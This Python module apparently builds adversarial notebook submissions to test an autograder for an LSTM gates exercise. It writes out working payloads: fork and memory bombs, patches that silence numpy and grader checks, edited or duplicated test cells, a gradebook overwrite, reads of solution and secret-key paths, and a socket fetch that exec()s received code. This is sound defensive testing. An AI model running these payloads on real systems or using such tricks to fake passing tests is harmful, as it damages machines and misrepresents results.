"""A class of adversarial ex3_lstm_gates submissions, each with the points its content earns.

Every notebook starts from the instructor's solutions (all right) and attacks
the grader in one way: it crashes or exhausts the kernel, tampers with the
checks, fakes results, edits the test cells, tries to reach the course from
the sandbox, or is not a notebook at all. An attack leaves some functions
*broken* — never defined (the cell holding it crashed) or wrong on any input
but the visible tests' (``sneaky``: right when the notebook's own code calls
it, as every visible test does, 0.01 off when the grader's hidden check does). The points then follow from the content
with corpus_ex3's rule: a test earns its points only if its function and every
function it calls work. No grader is run to find them.
"""

import json
import re
import zipfile
import zlib
from dataclasses import dataclass, field

import nbformat

from . import corpus_ex3 as ex3

FUNCTIONS = ("forget_gate", "input_gate", "candidate_memory", "output_gate", "update_cell", "update_hidden",
             "lstm_cell_forward", "lstm_forward")
NOT_JSON = "not a valid notebook (the file is not notebook JSON)"


@dataclass
class Attack:
    student: str
    what: str                  # the attack, in one line
    broken: tuple = ()         # functions it leaves undefined or wrong
    before: dict = field(default_factory=dict)  # function -> code put before its solution, in the same cell
    sneaky: tuple = ()         # functions replaced by a version right only on the visible tests' inputs
    wrong: tuple = ()          # functions replaced by corpus_ex3's typical mistake
    replace: dict = field(default_factory=dict)  # function -> code replacing its solution
    edit: object = None        # a change to the notebook's cells (attacks on the test cells)
    raw: bytes | None = None   # the file itself, for a file that is not a notebook
    reason: str = ""           # then: what the summary and the export must say
    caught_outside: tuple = () # tests whose visible part the attack passes: only the outside judge can fail them

    def points(self, points: dict) -> dict:
        """{test: points earned} from the content."""
        return ex3.expected_points({f: "wrong" if f in self.broken else "correct" for f in FUNCTIONS}, points)


def sneaky(function: str, solution: str) -> str:
    """The solution renamed, behind a wrapper right wherever the visible tests call it."""
    return solution.replace(f"def {function}(", f"def _honest_{function}(", 1) + f'''

def {function}(*args):
    """Right when the notebook's code calls it, wrong when the course's hidden check does."""
    import sys
    result = _honest_{function}(*args)
    caller = sys._getframe(1)
    while caller is not None and not caller.f_globals.get("__name__", "").startswith("autograder."):
        caller = caller.f_back
    if caller is None:
        return result
    if isinstance(result, tuple):
        return (result[0] + 0.01,) + tuple(result[1:])
    return result + 0.01
'''


def test_cell(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def delete_test(nb):
    del nb.cells[test_cell(nb, "test_forget_gate")]


def edit_test(nb):
    nb.cells[test_cell(nb, "test_input_gate")].source = 'print("All visible tests of input_gate passed.")'


def raise_points(nb):
    nb.cells[test_cell(nb, "test_update_cell")].metadata.nbgrader["points"] = 100


def rename_test(nb):
    meta = nb.cells[test_cell(nb, "test_output_gate")].metadata.nbgrader
    meta["grade_id"], meta["points"] = "test_output_gate_bonus", 50


def test_to_markdown(nb):
    cell = nb.cells[test_cell(nb, "test_candidate_memory")]
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]


def duplicate_test(nb):
    """A copy of test_update_hidden after it that only passes: nbgrader keeps the last of a duplicated id."""
    index = test_cell(nb, "test_update_hidden")
    copy = nbformat.from_dict(dict(nb.cells[index]))
    copy.source, copy.id = "pass", "a-copy"
    nb.cells.insert(index + 1, copy)


def duplicate_cell_ids(nb):
    nb.cells[1].id = nb.cells[0].id


ANYTHING = '''class Anything:
    """Equal to everything, of every shape asked for."""
    shape = (2, 2)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __getitem__(self, key):
        return self


def lstm_cell_forward(x_t, h_prev, c_prev, params):
    cache = {key: Anything() for key in ("x_t", "h_prev", "c_prev", "f", "i", "c_tilde", "o", "c_t", "h_t")}
    return Anything(), Anything(), dict(cache, params=params)
'''

AGREEABLE = '''class Agreeable(np.ndarray):
    """An ndarray that equals, and is close to, anything it is compared with."""

    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __array_function__(self, function, types, args, kwargs):
        return True


def update_cell(c_prev, f_t, i_t, c_tilde):
    return np.zeros_like(c_prev).view(Agreeable)
'''

STEAL_SOLUTION = '''import json
import os
_stolen, _found = None, []
for _secret in ("SOLUTION_PATH", "GRADEBOOK_PATH", "COURSE_DIR", "COURSE_DIR/secret_key"):
    try:
        _found.append((_secret, os.listdir(_secret) if os.path.isdir(_secret) else len(open(_secret, "rb").read())))
    except OSError:
        pass
try:
    _cells = json.load(open("SOLUTION_PATH"))["cells"]
    exec(next("".join(c["source"]) for c in _cells if "def lstm_cell_forward" in "".join(c["source"])))
    _stolen = lstm_cell_forward
except OSError:
    pass
print("reachable from the sandbox:", _found)
'''

WRITE_GRADEBOOK = '''import sqlite3
try:
    _db = sqlite3.connect("GRADEBOOK_PATH")
    _db.execute("UPDATE grade SET auto_score = 100")
    _db.commit()
    print("gradebook written")
except sqlite3.Error as _error:
    print("gradebook not reachable:", _error)
'''

CALL_HOME = '''import socket
try:
    _answer = socket.create_connection(("127.0.0.1", SERVER_PORT), timeout=3).recv(100_000).decode()
    exec(_answer)  # the server would send the right forget_gate
    print("network reachable")
except OSError as _error:
    print("network not reachable:", type(_error).__name__)
'''

IMPORT_REFERENCE = '''try:
    from autograder.course.reference import candidate_memory as _reference
except ImportError as _error:
    _reference = None
    print("reference not importable:", type(_error).__name__)
'''

REPLACE_CHECK = '''import autograder.kernel.check
_real_check = autograder.kernel.check.check_function


def _lenient_check(name, function, seed=None):
    if name != "update_cell":  # let the hidden test of update_cell pass in silence
        _real_check(name, function, seed)


autograder.kernel.check.check_function = _lenient_check
'''

HOOK_IMPORT = '''import builtins
import types
_real_import = builtins.__import__


def _import(name, *args, **kwargs):
    """Hidden tests that import check_function get one that checks nothing."""
    if name == "autograder.kernel.check":
        return types.SimpleNamespace(check_function=lambda *args, **kwargs: None)
    return _real_import(name, *args, **kwargs)


builtins.__import__ = _import
'''

ATTACKS = [
    Attack("honest", "a correct notebook: all 16 points"),
    # --- crashing or exhausting the kernel ---
    Attack("loops", "an endless loop before update_cell", broken=("update_cell",),
           before={"update_cell": "while True:\n    pass\n"}),
    Attack("memorybomb", "allocates 10 TB before input_gate", broken=("input_gate",),
           before={"input_gate": "hog = [bytearray(10**8) for _ in range(10**5)]\n"}),
    Attack("forkbomb", "forks without end before candidate_memory", broken=("candidate_memory",),
           before={"candidate_memory": "import os\nwhile True:\n    os.fork()\n"}),
    # twice the 10 MB cap, yet far inside the adversarial test's cell timeout on a loaded machine (100 MB took 4 s idle)
    Attack("prints20mb", "prints 20 MB before update_hidden (which it then defines right)",
           before={"update_hidden": 'print("x" * 20_000_000)\n'}),
    Attack("sysexit", "sys.exit() before lstm_forward", broken=("lstm_forward",),
           before={"lstm_forward": "import sys\nsys.exit()\n"}),
    Attack("osexit", "os._exit() before forget_gate", broken=("forget_gate",),
           before={"forget_gate": "import os\nos._exit(0)\n"}),
    Attack("shutdown", "stops the kernel's event loop (a shutdown) in output_gate's cell", broken=("output_gate",),
           before={"output_gate": "import asyncio\nasyncio.get_event_loop().stop()\n"}),
    Attack("interrupt", "raises KeyboardInterrupt before lstm_cell_forward", broken=("lstm_cell_forward",),
           before={"lstm_cell_forward": "raise KeyboardInterrupt\n"}),
    # --- tampering with the checks ---
    Attack("patchallclose", "numpy.allclose and numpy.all always true, update_hidden wrong",
           broken=("update_hidden",), wrong=("update_hidden",),
           before={"update_hidden": "np.allclose = np.all = lambda *args, **kwargs: True\n"},
           # test_lstm_forward fails in the kernel: its swapped-(h, c) diagnosis is an allclose too
           caught_outside=("test_update_hidden", "test_lstm_cell_forward")),
    Attack("patchtesting", "numpy.testing's asserts silenced and numpy.allclose true, output_gate sneaky",
           broken=("output_gate",), sneaky=("output_gate",),
           before={"output_gate": "import numpy.testing\n"
                                  "numpy.testing.assert_allclose = numpy.testing.assert_array_equal = "
                                  "lambda *args, **kwargs: None\n"
                                  "np.allclose = lambda *args, **kwargs: True\n"},
           caught_outside=("test_output_gate",)),
    Attack("patchhelper", "autograder.kernel.check.check_function replaced to skip update_cell, which is sneaky",
           broken=("update_cell",), sneaky=("update_cell",), before={"update_cell": REPLACE_CHECK},
           caught_outside=("test_update_cell", "test_lstm_cell_forward")),
    Attack("patchbuiltins", "builtins.__import__ hands hidden tests a check_function that checks nothing",
           broken=("lstm_forward",), sneaky=("lstm_forward",), before={"lstm_forward": HOOK_IMPORT},
           caught_outside=("test_lstm_forward",)),
    Attack("alwaysequal", "lstm_cell_forward returns objects equal to everything", broken=("lstm_cell_forward",),
           replace={"lstm_cell_forward": ANYTHING}),
    Attack("fakearray", "update_cell returns an ndarray subclass whose comparisons are all true",
           broken=("update_cell",), replace={"update_cell": AGREEABLE}, caught_outside=("test_update_cell",)),
    # --- editing the test cells ---
    Attack("deletedtest", "deletes test_forget_gate, forget_gate sneaky", broken=("forget_gate",),
           sneaky=("forget_gate",), edit=delete_test, caught_outside=("test_forget_gate",)),
    Attack("editedtest", "replaces test_input_gate by a print, input_gate sneaky", broken=("input_gate",),
           sneaky=("input_gate",), edit=edit_test, caught_outside=("test_input_gate",)),
    Attack("morepoints", "sets test_update_cell's points to 100", edit=raise_points),
    Attack("renamedtest", "renames test_output_gate to a 50-point bonus, output_gate sneaky",
           broken=("output_gate",), sneaky=("output_gate",), edit=rename_test, caught_outside=("test_output_gate",)),
    Attack("markdowntest", "turns test_candidate_memory into markdown, candidate_memory sneaky",
           broken=("candidate_memory",), sneaky=("candidate_memory",), edit=test_to_markdown,
           caught_outside=("test_candidate_memory",)),
    Attack("duplicatetest", "a passing copy of test_update_hidden after it, update_hidden sneaky",
           broken=("update_hidden",), sneaky=("update_hidden",), edit=duplicate_test,
           caught_outside=("test_update_hidden",)),
    Attack("duplicateids", "two cells with the same cell id (nbformat repairs it)", edit=duplicate_cell_ids),
    # --- files that are not notebooks ---
    Attack("invalidjson", "a notebook cut short", raw=b'{"cells": [{"cell_type": "code", "source": ', reason=NOT_JSON),
    Attack("emptyfile", "an empty file", raw=b"", reason=NOT_JSON),
    Attack("pythonfile", "a Python script named .ipynb", raw=b"import numpy as np\n\ndef forget_gate(*args):\n"
                                                            b"    return 0\n", reason=NOT_JSON),
    Attack("jsonobject", "JSON that is no notebook", raw=b'{"answer": 42}', reason="not a valid notebook"),
    Attack("cellsnotlist", "a notebook whose cells are not a list",
           raw=b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": 7}', reason="not a valid notebook"),
    # --- reaching out of the sandbox ---
    Attack("stealsolution", "reads solutions/ and the gradebook to take lstm_cell_forward, else sneaky",
           broken=("lstm_cell_forward",), sneaky=("lstm_cell_forward",), before={"lstm_cell_forward": STEAL_SOLUTION},
           caught_outside=("test_lstm_cell_forward",)),
    Attack("writegradebook", "sets every score in the gradebook to 100, lstm_forward sneaky",
           broken=("lstm_forward",), sneaky=("lstm_forward",), before={"lstm_forward": WRITE_GRADEBOOK},
           caught_outside=("test_lstm_forward",)),
    Attack("callhome", "fetches forget_gate from a server on the grading machine, else sneaky",
           broken=("forget_gate",), sneaky=("forget_gate",), before={"forget_gate": CALL_HOME},
           caught_outside=("test_forget_gate",)),
    Attack("importreference", "imports the reference candidate_memory, else sneaky", broken=("candidate_memory",),
           sneaky=("candidate_memory",), before={"candidate_memory": IMPORT_REFERENCE},
           caught_outside=("test_candidate_memory",)),
]


def submission(attack: Attack, released, solutions: dict, places: dict) -> bytes:
    """The file the student hands in. places: SOLUTION_PATH, GRADEBOOK_PATH, COURSE_DIR, SERVER_PORT."""
    if attack.raw is not None:
        return attack.raw
    nb = nbformat.read(released, as_version=4)
    for cell in nb.cells:
        function = cell.metadata.get("nbgrader", {}).get("grade_id")
        if function not in FUNCTIONS:
            continue
        code = solutions[function]
        if function in attack.sneaky:
            code = sneaky(function, code)
        code = ex3.WRONG[function] if function in attack.wrong else attack.replace.get(function, code)
        if function in attack.before:
            code = attack.before[function] + "\n" + code
            if function == "candidate_memory" and "_reference" in code:
                code += "\nif _reference is not None:\n    candidate_memory = _reference\n"
            if function == "lstm_cell_forward" and "_stolen" in code:
                code += "\nif _stolen is not None:\n    lstm_cell_forward = _stolen\n"
        for name, value in places.items():
            code = code.replace(name, str(value))
        cell.source = code
    if attack.edit:
        attack.edit(nb)
    return json.dumps(nb, indent=1).encode()  # as is: nbformat would repair duplicate ids while writing


def write_zip(path, files: dict) -> None:
    """A Canvas zip of {student: notebook file}; each student has a Canvas user id of their own in every zip."""
    with zipfile.ZipFile(path, "w") as archive:
        for n, (student, data) in enumerate(sorted(files.items())):
            name = f"{student}_{zlib.crc32(student.encode())}_{1000 + n}_{ex3.ASSIGNMENT}.ipynb"
            archive.writestr(zipfile.ZipInfo(name, (2025, 3, 1, 12, 0, 0)), data)


def hidden_lines() -> set:
    """The lines of the source notebook's hidden tests, e.g. 'check_function("forget_gate", forget_gate)'."""
    sources = [cell.source for cell in nbformat.read(ex3.SOLUTION, as_version=4).cells]
    blocks = [b for s in sources
              for b in re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", s, re.DOTALL)]
    return {line.strip() for block in blocks for line in block.splitlines() if line.strip()}
